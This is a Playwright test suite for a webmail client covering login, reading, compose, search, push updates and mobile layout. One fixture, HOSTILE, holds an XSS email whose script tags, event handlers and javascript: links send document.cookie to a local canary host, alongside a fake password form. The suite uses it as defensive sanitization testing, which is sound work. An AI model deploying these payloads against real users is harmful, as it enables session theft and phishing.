"""The webmail in a real browser: Debian's Chromium driven by Playwright, against a real
``mailhaven serve`` (its JMAP API, its store). Screenshots go to test-artifacts/.

Log in, read (HTML and plain text, attachments), compose with an attachment and send to
another local user who then sees it, reply, move, search, flags, keyboard shortcuts, drafts
saved as you type, live updates by push, a phone-sized screen, and a hostile message whose
script, handlers, links, CSS, form, refresh and remote image must all stay inert."""

from __future__ import annotations

import base64
import importlib.util
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import ROOT, ServerProcess, free_port, wait_for
from peers import require
from webmail_helpers import CHROMIUM, JMAP, Canary, chromium, deliver, message

pytestmark = pytest.mark.slow

ARTIFACTS = ROOT / "test-artifacts"
# A 1x1 red PNG.
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")
PASSWORD = "s3cret"


def _require() -> None:
    reasons = []
    if not Path(CHROMIUM).exists():
        reasons.append(f"{CHROMIUM} is not installed (apt-get install chromium)")
    if importlib.util.find_spec("playwright") is None:
        reasons.append("playwright is not installed (pip install -e .[test])")
    if importlib.util.find_spec("mailhaven.web.jmap") is None or importlib.util.find_spec("mailhaven.web.app") is None:
        # A missing feature, not a missing tool: issue 6 stays open until the JMAP API lands.
        pytest.skip("the JMAP API (mailhaven.web.app, mailhaven.web.jmap) is not built yet (issue 6)")
    require(reasons)


@pytest.fixture(scope="module")
def mailserver(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerProcess]:
    _require()
    srv = ServerProcess(tmp_path_factory.mktemp("webmail") / "data").start()
    try:
        for user in ("alice@example.org", "bob@example.org"):
            srv.add_user(user, PASSWORD)
        yield srv
    finally:
        srv.stop()


@pytest.fixture(scope="module")
def browser(mailserver: ServerProcess) -> Iterator[Any]:
    with chromium() as b:
        yield b


def base(srv: ServerProcess) -> str:
    return f"http://127.0.0.1:{srv.port('http')}"


class Session:
    """One logged-in browser context; collects page errors so tests can assert none."""

    def __init__(self, browser: Any, srv: ServerProcess, user: str, viewport: dict[str, int] | None = None) -> None:
        self.context = browser.new_context(viewport=viewport or {"width": 1400, "height": 900})
        self.page = self.context.new_page()
        self.errors: list[str] = []
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.on("dialog", lambda d: d.accept())
        self.page.goto(base(srv) + "/")
        assert self.page.url.endswith("/login")
        self.page.fill("input[name=username]", user)
        self.page.fill("input[name=password]", PASSWORD)
        self.page.click("button[type=submit]")
        self.page.wait_for_selector("#mailboxes li.mailbox", state="attached")
        self.page.wait_for_selector("#message-list li")

    def row(self, subject: str) -> Any:
        return self.page.locator("#message-list li.message", has_text=subject)

    def wait_row(self, subject: str, timeout: float = 10_000) -> Any:
        row = self.row(subject)
        row.first.wait_for(timeout=timeout)
        return row.first

    def folder(self, role: str) -> None:
        self.page.click(f"#mailboxes li[data-role={role}] a")
        self.page.wait_for_function(
            "role => document.querySelector('#mailboxes li.current')?.dataset.role === role", arg=role)
        self.page.wait_for_timeout(300)

    def open(self, subject: str) -> None:
        self.wait_row(subject).click()
        self.page.wait_for_selector(".message-card.expanded .card-body :is(iframe, .text-body)")

    def frame_text(self) -> str:
        frame = self.page.frame_locator(".message-card.expanded iframe.message-frame").last
        return str(frame.locator("body").inner_text(timeout=10_000))

    def close(self) -> None:
        self.context.close()


def jmap(srv: ServerProcess, user: str) -> JMAP:
    return JMAP(base(srv), user, PASSWORD)



def test_login_rejects_wrong_password(mailserver: ServerProcess, browser: Any) -> None:
    ctx = browser.new_context()
    page = ctx.new_page()
    page.goto(base(mailserver) + "/login")
    page.fill("input[name=username]", "alice@example.org")
    page.fill("input[name=password]", "not-the-password")
    page.click("button[type=submit]")
    assert "Wrong email address or password" in page.inner_text(".login-error")
    assert not [c for c in ctx.cookies() if c["name"] == "mh_session"]
    ctx.close()


def test_read_inbox_message_and_attachment(mailserver: ServerProcess, browser: Any) -> None:
    deliver(mailserver, "alice@example.org", message("Plain hello", "Just text.\nhttps://example.org/page"))
    deliver(mailserver, "alice@example.org", message(
        "Quarterly numbers", "Numbers in plain text",
        html="<h2>Quarterly numbers</h2><p>Revenue is <b>up</b> and costs are <i>down</i>.</p>"
             "<table border=1><tr><td>Q1</td><td>10</td></tr><tr><td>Q2</td><td>14</td></tr></table>"
             '<p><img id="logo" src="cid:logo@outside.example" alt="logo"></p>',
        attachment=("figures.bin", b"\x00\x01binary figures\xff"),
        inline_png=("logo@outside.example", PNG)))
    s = Session(browser, mailserver, "alice@example.org")
    try:
        s.wait_row("Quarterly numbers")
        inbox = s.page.locator("#mailboxes li[data-role=inbox] .unread-count")
        assert int(inbox.inner_text()) >= 2
        assert "unread" in (s.row("Quarterly numbers").first.get_attribute("class") or "")
        ARTIFACTS.mkdir(exist_ok=True)
        s.page.screenshot(path=str(ARTIFACTS / "webmail-inbox.png"))

        s.open("Quarterly numbers")
        assert "Revenue is up and costs are down" in s.frame_text()
        # The inline image shows from a data: URL (the frame itself may fetch nothing).
        inner = s.page.frame_locator(".message-card.expanded iframe.message-frame").last
        assert (inner.locator("img[alt=logo]").get_attribute("src") or "").startswith("data:image/png;base64,")
        assert inner.locator("img[alt=logo]").evaluate("img => img.naturalWidth") == 1
        frame = s.page.locator(".message-card.expanded iframe.message-frame").last
        assert frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
        link = s.page.locator(".attachments a.attachment", has_text="figures.bin")
        assert link.count() == 1
        res = s.context.request.get(base(mailserver) + link.get_attribute("href"))
        assert res.ok and res.body() == b"\x00\x01binary figures\xff"
        s.page.wait_for_timeout(500)
        s.page.screenshot(path=str(ARTIFACTS / "webmail-message.png"))
        # Reading marked it seen, over JMAP too.
        seen = wait_for(lambda: [e for e in jmap(mailserver, "alice@example.org").emails("inbox")
                                 if e["subject"] == "Quarterly numbers" and e["keywords"].get("$seen")])
        assert seen

        s.page.keyboard.press("u")
        s.open("Plain hello")
        body = s.page.locator(".message-card.expanded .text-body").last
        assert "Just text." in body.inner_text()
        assert body.locator("a").get_attribute("href") == "https://example.org/page"
        assert not s.errors
    finally:
        s.close()


def test_compose_with_attachment_reply_and_drafts(mailserver: ServerProcess, browser: Any, tmp_path: Path) -> None:
    alice = Session(browser, mailserver, "alice@example.org")
    try:
        page = alice.page
        page.click("#compose-button")
        page.fill("input[name=to]", "Bob <bob@example.org>")
        page.fill("input[name=subject]", "Plans for the offsite")
        page.fill("textarea[name=body]", "Hi Bob,\nthe agenda is attached.\nAlice")
        page.set_input_files("input[type=file]", files=[
            {"name": "agenda.txt", "mimeType": "text/plain", "buffer": b"09:00 coffee\n10:00 talks\n"}])
        page.wait_for_selector(".compose-attachments li:not(.uploading)")
        # Drafts are saved as you type: the draft is in Drafts over JMAP before sending.
        wait_for(lambda: [e for e in jmap(mailserver, "alice@example.org").emails("drafts")
                          if e["subject"] == "Plans for the offsite"])
        assert page.inner_text(".draft-status") == "Draft saved"
        page.click("button.send")
        page.wait_for_selector("#toast.shown:has-text('Message sent')")
    finally:
        alice.close()

    api = jmap(mailserver, "alice@example.org")
    wait_for(lambda: not [e for e in api.emails("drafts") if e["subject"] == "Plans for the offsite"])
    sent = wait_for(lambda: [e for e in api.emails("sent") if e["subject"] == "Plans for the offsite"])
    assert "$draft" not in sent[0]["keywords"]

    bob = Session(browser, mailserver, "bob@example.org")
    try:
        bob.wait_row("Plans for the offsite", timeout=30_000)
        bob.open("Plans for the offsite")
        text = bob.page.locator(".message-card.expanded .card-body").last.inner_text()
        assert "the agenda is attached" in text
        link = bob.page.locator(".attachments a.attachment", has_text="agenda.txt")
        res = bob.context.request.get(base(mailserver) + link.get_attribute("href"))
        assert res.body() == b"09:00 coffee\n10:00 talks\n"
        # Reply with the keyboard.
        bob.page.keyboard.press("r")
        bob.page.wait_for_selector(".compose-form")
        assert bob.page.input_value("input[name=subject]") == "Re: Plans for the offsite"
        assert "bob@example.org" not in bob.page.input_value("input[name=to]")
        assert "alice@example.org" in bob.page.input_value("input[name=to]")
        assert "> Hi Bob," in bob.page.input_value("textarea[name=body]")
        bob.page.locator("textarea[name=body]").press("Home")
        bob.page.locator("textarea[name=body]").type("Sounds good. ")
        bob.page.click("button.send")
        bob.page.wait_for_selector("#toast.shown:has-text('Message sent')")
        assert not bob.errors
    finally:
        bob.close()

    reply = wait_for(lambda: [e for e in api.emails("inbox") if e["subject"] == "Re: Plans for the offsite"], 30)
    assert reply[0]["inReplyTo"] == sent[0]["messageId"]


def test_move_search_flag_delete_and_junk(mailserver: ServerProcess, browser: Any) -> None:
    for subject, word in (("Invoice 2291", "xylophone"), ("Team photo", "marmalade"), ("Prize!!!", "lottery")):
        deliver(mailserver, "alice@example.org", message(subject, f"Body mentioning {word}."))
    s = Session(browser, mailserver, "alice@example.org")
    api = jmap(mailserver, "alice@example.org")
    try:
        page = s.page
        # Move with the toolbar's folder menu.
        s.open("Invoice 2291")
        archive = api.mailbox("archive")
        page.select_option(".toolbar select.move-to", archive)
        s.row("Invoice 2291").first.wait_for(state="detached")
        s.folder("archive")
        s.wait_row("Invoice 2291")
        # Search finds it from anywhere, by body text.
        page.keyboard.press("/")
        page.keyboard.type("xylophone")
        page.keyboard.press("Enter")
        page.wait_for_selector("#list-title:has-text('Search: xylophone')")
        s.wait_row("Invoice 2291")
        assert s.row("Team photo").count() == 0
        # Flag and mark unread, checked over JMAP.
        s.folder("inbox")
        s.open("Team photo")
        page.click(".toolbar button[data-action=flag]")
        wait_for(lambda: [e for e in api.emails("inbox") if e["subject"] == "Team photo" and e["keywords"].get("$flagged")])
        page.click(".toolbar button[data-action=mark-unread]")
        wait_for(lambda: [e for e in api.emails("inbox") if e["subject"] == "Team photo" and not e["keywords"].get("$seen")])
        # Junk.
        s.open("Prize!!!")
        page.click(".toolbar button[data-action=junk]")
        wait_for(lambda: [e for e in api.emails("junk") if e["subject"] == "Prize!!!"])
        # Delete with '#' from the list (j/k selection), to Trash.
        page.keyboard.press("u")
        s.row("Prize!!!").first.wait_for(state="detached")
        rows = page.locator("#message-list li.message").count()
        for _ in range(rows + 1):       # to the top first: the selection may start below it
            page.keyboard.press("k")    # (and 'k' selects the first row when none is)
        for _ in range(rows):
            if "Team photo" in page.inner_text("#message-list li.selected"):
                break
            page.keyboard.press("j")
        assert "Team photo" in page.inner_text("#message-list li.selected")
        page.keyboard.press("#")
        wait_for(lambda: [e for e in api.emails("trash") if e["subject"] == "Team photo"])
        assert not [e for e in api.emails("inbox") if e["subject"] == "Team photo"]
        assert not s.errors
    finally:
        s.close()


def test_live_update_when_mail_arrives(mailserver: ServerProcess, browser: Any) -> None:
    s = Session(browser, mailserver, "alice@example.org")
    try:
        before = s.page.locator("#mailboxes li[data-role=inbox] .unread-count")
        count_before = int(before.inner_text()) if before.count() else 0
        deliver(mailserver, "alice@example.org", message("Breaking: pushed", "Arrived while you watched."))
        s.wait_row("Breaking: pushed", timeout=10_000)  # no reload: EventSource push
        s.page.wait_for_function(
            "n => Number(document.querySelector('#mailboxes li[data-role=inbox] .unread-count')?.textContent) > n",
            arg=count_before)
    finally:
        s.close()


def test_phone_sized_screen(mailserver: ServerProcess, browser: Any) -> None:
    deliver(mailserver, "alice@example.org", message("Small screen", "Read me on a phone."))
    s = Session(browser, mailserver, "alice@example.org", viewport={"width": 390, "height": 800})
    try:
        page = s.page
        assert not page.is_visible("#sidebar .mailbox a") or page.evaluate(
            "document.querySelector('#sidebar').getBoundingClientRect().right <= 0")
        assert page.is_visible("#message-list")
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        page.click("#menu-toggle")
        page.wait_for_function("() => document.querySelector('#sidebar').getBoundingClientRect().left >= 0")
        page.click("#mailboxes li[data-role=inbox] a")
        s.open("Small screen")
        assert page.is_visible(".message-card.expanded") and not page.is_visible("#message-list")
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "webmail-phone-message.png"))
        page.click(".toolbar button[data-action=back]")
        assert page.is_visible("#message-list")
    finally:
        s.close()


HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:{port}/meta-refresh">
<link rel="stylesheet" href="http://127.0.0.1:{port}/link.css">
<style>@import url(http://127.0.0.1:{port}/import.css);
body {{ background: url(http://127.0.0.1:{port}/body-bg) }} p {{ width: expression(alert(1)) }}</style>
<base href="http://127.0.0.1:{port}/base/">
</head><body onload="top.pwned='onload'">
<h1>An innocent newsletter</h1>
<script>top.pwned = 'script'; new Image().src = 'http://127.0.0.1:{port}/script?c=' + document.cookie;</script>
<img src="nope" onerror="top.pwned='onerror'; new Image().src='http://127.0.0.1:{port}/onerror?c='+document.cookie">
<svg onload="top.pwned='svg'"><script>top.pwned='svg-script'</script></svg>
<a id="jslink" href="javascript:top.pwned='link';void(0)">Claim your prize</a>
<a href="java&#x09;script:top.pwned='link2'">Other prize</a>
<form action="http://127.0.0.1:{port}/form" method="post"><input name="password" type="password" value="x">
<button type="submit">Verify account</button></form>
<iframe src="http://127.0.0.1:{port}/iframe"></iframe>
<object data="http://127.0.0.1:{port}/object"></object>
<p style="background-image: url('http://127.0.0.1:{port}/inline-style')">Styled paragraph</p>
<img src="http://127.0.0.1:{port}/remote.png" alt="tracker">
<div style="width: e\\78 pression(top.pwned='css')">escaped css</div>
</body></html>"""


def test_hostile_html_cannot_run_or_reach_out(mailserver: ServerProcess, browser: Any) -> None:
    canary = Canary(free_port())
    try:
        html = HOSTILE.format(port=canary.port)
        deliver(mailserver, "alice@example.org", message("Hostile newsletter", "text part", html=html))
        s = Session(browser, mailserver, "alice@example.org")
        page = s.page
        requests: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        s.open("Hostile newsletter")
        assert "An innocent newsletter" in s.frame_text()
        frame = s.page.frame_locator(".message-card.expanded iframe.message-frame").last
        assert frame.locator("script, iframe, object, embed, form, input, button, meta[http-equiv], link, base, svg").count() == 0
        assert frame.locator("[onerror], [onload], [onclick]").count() == 0
        # Clicking the former javascript: links does nothing.
        frame.locator("a", has_text="Claim your prize").click()
        frame.locator("a", has_text="Other prize").click()
        page.wait_for_timeout(1500)
        assert page.evaluate("window.pwned") is None
        assert all(f.evaluate("typeof window.pwned") == "undefined" for f in page.frames
                   if f != page.main_frame and not f.is_detached() and f.url.startswith("http"))
        assert canary.hits == [], canary.hits
        assert not [u for u in requests if f":{canary.port}/" in u]
        # The session cookie is HttpOnly: not even the app's own script can read it.
        assert "mh_session" not in page.evaluate("document.cookie")
        assert page.url == base(mailserver) + "/"  # no meta refresh navigated anything
        # The canary does work: allowing remote images fetches exactly the image (and CSS backgrounds).
        page.click(".remote-banner button")
        wait_for(lambda: any("/remote.png" in h for h in canary.hits))
        page.wait_for_timeout(500)
        assert not [h for h in canary.hits if re.search(r"/(script|onerror|form|iframe|object|meta-refresh|link\.css|import\.css)", h)]
        assert page.evaluate("window.pwned") is None
        assert not s.errors
        s.close()
    finally:
        canary.close()


# -- what a newcomer tripped on (issue 19) -------------------------------------------------------
LAYOUT = """() => {
  const box = (s) => { const e = document.querySelector(s); if (!e) return null;
                       const b = e.getBoundingClientRect(); return { top: b.top, bottom: b.bottom, height: b.height }; };
  const rows = new Set([...document.querySelectorAll('.toolbar > *')].filter((e) => e.offsetParent)
                       .map((e) => Math.round(e.getBoundingClientRect().top)));
  return { rows: rows.size, frame: box('.message-card.expanded iframe.message-frame'),
           attachments: box('.message-card.expanded .attachments'), pane: box('#reader-pane'),
           width: document.documentElement.scrollWidth };
}"""


def test_reader_fills_the_window_at_1280(mailserver: ServerProcess, browser: Any) -> None:
    deliver(mailserver, "alice@example.org", message(
        "Roomy report", "text", html="<h2>Roomy report</h2>" + "<p>A paragraph of the report.</p>" * 4,
        attachment=("appendix.pdf", b"%PDF-1.4 appendix")))
    s = Session(browser, mailserver, "alice@example.org", viewport={"width": 1280, "height": 720})
    try:
        s.open("Roomy report")
        s.page.wait_for_timeout(300)
        ARTIFACTS.mkdir(exist_ok=True)
        s.page.screenshot(path=str(ARTIFACTS / "webmail-1280.png"))
        layout = s.page.evaluate(LAYOUT)
        assert layout["rows"] == 1, f"the toolbar wraps at 1280 px: {layout}"
        assert layout["width"] <= 1280
        # the attachments are in view without scrolling, and the frame takes the room above them
        assert layout["attachments"]["bottom"] <= 720, layout
        assert layout["frame"]["height"] >= 350, layout
        assert layout["pane"]["bottom"] - layout["attachments"]["bottom"] < 80, layout
        assert not s.errors
    finally:
        s.close()


def test_switching_folder_closes_the_open_message(mailserver: ServerProcess, browser: Any) -> None:
    deliver(mailserver, "alice@example.org", message("Stays in the inbox", "Only here."))
    s = Session(browser, mailserver, "alice@example.org")
    try:
        s.open("Stays in the inbox")
        assert s.page.is_visible(".message-card.expanded")
        s.folder("sent")
        assert s.page.locator("#reader-pane .message-card").count() == 0
        assert s.page.inner_text("#reader-pane").strip() == "No message selected."
        s.folder("inbox")
        s.open("Stays in the inbox")
        s.page.fill("#search", "xylophone-nowhere")
        s.page.press("#search", "Enter")
        s.page.wait_for_selector("#list-title:has-text('Search: xylophone-nowhere')")
        assert s.page.locator("#reader-pane .message-card").count() == 0
        assert not s.errors
    finally:
        s.close()


def test_inbox_reads_as_a_word_and_there_is_a_favicon(mailserver: ServerProcess, browser: Any) -> None:
    s = Session(browser, mailserver, "alice@example.org")
    try:
        assert s.page.inner_text("#mailboxes li[data-role=inbox] .name") == "Inbox"
        names = s.page.locator("#mailboxes li .name").all_inner_texts()
        assert "INBOX" not in names and {"Inbox", "Sent", "Trash"} <= set(names)
        assert s.page.inner_text("#list-title") == "Inbox"
        res = s.context.request.get(base(mailserver) + "/favicon.ico")
        assert res.ok and res.headers["content-type"].startswith("image/")
        body = res.body()
        assert body[:4] == b"\x00\x00\x01\x00" and b"PNG" in body[:40]   # an ICO holding a PNG
    finally:
        s.close()


def test_search_placeholder_is_whole_on_a_phone(mailserver: ServerProcess, browser: Any) -> None:
    for width in (390, 360):
        s = Session(browser, mailserver, "alice@example.org", viewport={"width": width, "height": 760})
        try:
            needed, room = s.page.evaluate("""() => {
              const input = document.getElementById('search'); const cs = getComputedStyle(input);
              const ctx = document.createElement('canvas').getContext('2d'); ctx.font = cs.font;
              return [ctx.measureText(input.placeholder).width,
                      input.clientWidth - parseFloat(cs.paddingLeft) - parseFloat(cs.paddingRight)];
            }""")
            assert needed <= room, f"at {width} px the placeholder needs {needed:.0f} px, has {room:.0f}"
            assert s.page.evaluate("document.documentElement.scrollWidth") <= width
            ARTIFACTS.mkdir(exist_ok=True)
            s.page.screenshot(path=str(ARTIFACTS / f"webmail-phone-{width}.png"))
        finally:
            s.close()


def test_a_banner_says_when_the_server_is_gone(browser: Any, tmp_path: Path) -> None:
    _require()
    srv = ServerProcess(tmp_path / "data").start()
    try:
        srv.add_user("alice@example.org", PASSWORD)
        s = Session(browser, srv, "alice@example.org")
        try:
            assert not s.page.is_visible("#connection-lost")
            srv.stop()
            s.page.wait_for_selector("#connection-lost", state="visible", timeout=15_000)
            assert "cannot be reached" in s.page.inner_text("#connection-lost")
            ARTIFACTS.mkdir(exist_ok=True)
            s.page.screenshot(path=str(ARTIFACTS / "webmail-server-gone.png"))
            srv.start()
            # back, but its sessions were in memory: to the login page rather than a dead page
            s.page.wait_for_url("**/login", timeout=30_000)
        finally:
            s.close()
    finally:
        srv.stop()
